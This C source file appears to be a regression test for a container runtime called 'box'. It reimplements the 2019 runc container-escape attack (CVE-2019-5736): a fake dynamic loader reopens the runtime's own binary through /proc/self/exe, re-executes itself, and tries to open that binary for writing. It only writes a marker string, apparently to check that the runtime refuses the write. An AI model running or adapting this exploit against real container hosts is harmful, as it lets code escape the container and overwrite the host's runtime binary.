/*
 * box_overwrite.c - the attack on runc of 2019 (CVE-2019-5736), for box.
 *
 * An image puts this in place of the dynamic loader, and asks for
 * /proc/self/exe as the command: the runner executes itself, and its loader
 * is ours.  We take hold of the runner's file, become another program, so
 * that the file is no longer busy, and open it for writing.
 *
 * As loader there is no libc to rely on; the second half is the same program,
 * started with the descriptor as its argument.
 */

#define _GNU_SOURCE
#include <sys/syscall.h>

#include <fcntl.h>

static long
call(long nr, long a, long b, long c)
{
	long result;
#if defined(__x86_64__)
	__asm__ volatile("syscall"
			 : "=a"(result)
			 : "a"(nr), "D"(a), "S"(b), "d"(c), "r"((void *)0)
			 : "rcx", "r11", "memory");
#elif defined(__aarch64__)
	register long x8 __asm__("x8") = nr, x0 __asm__("x0") = a,
			 x1 __asm__("x1") = b, x2 __asm__("x2") = c;
	__asm__ volatile("svc 0"
			 : "+r"(x0)
			 : "r"(x8), "r"(x1), "r"(x2)
			 : "memory");
	result = x0;
#endif
	return result;
}

static void
say(const char *text)
{
	long n = 0;

	while (text[n] != '\0')
		n++;
	call(SYS_write, 1, (long)text, n);
}

/* openat(2) takes its mode as a fourth argument, which we never need. */
static long
open_at(const char *path, long flags)
{
	return call(SYS_openat, AT_FDCWD, (long)path, flags);
}

__attribute__((used)) static void
begin(long *stack)
{
	static char name[] = "/proc/self/fd/0";
	char *argv[] = { (char *)"attack", name, 0 };
	long argc = stack[0], fd;
	char *first = (char *)stack[1];

	if (argc != 2 || first[0] != 'a') {
		fd = open_at("/proc/self/exe", O_RDONLY);
		if (fd < 0 || fd > 9)
			say("no descriptor\n");
		name[14] = (char)('0' + fd);
		call(SYS_execve, (long)"/attack", (long)argv, (long)(argv + 2));
		say("no second half\n");
	} else {
		fd = open_at((char *)stack[2], O_WRONLY);
		if (fd >= 0) {
			call(SYS_write, fd, (long)"overwritten", 11);
			say("overwritten\n");
		} else {
			say("refused\n");
		}
	}
	call(SYS_exit_group, 0, 0, 0);
}

#if defined(__x86_64__)
__asm__(".globl _start\n_start:\n\tmov %rsp, %rdi\n\tand $-16, %rsp\n\t"
	"call begin\n");
#elif defined(__aarch64__)
__asm__(".globl _start\n_start:\n\tmov x0, sp\n\tb begin\n");
#endif
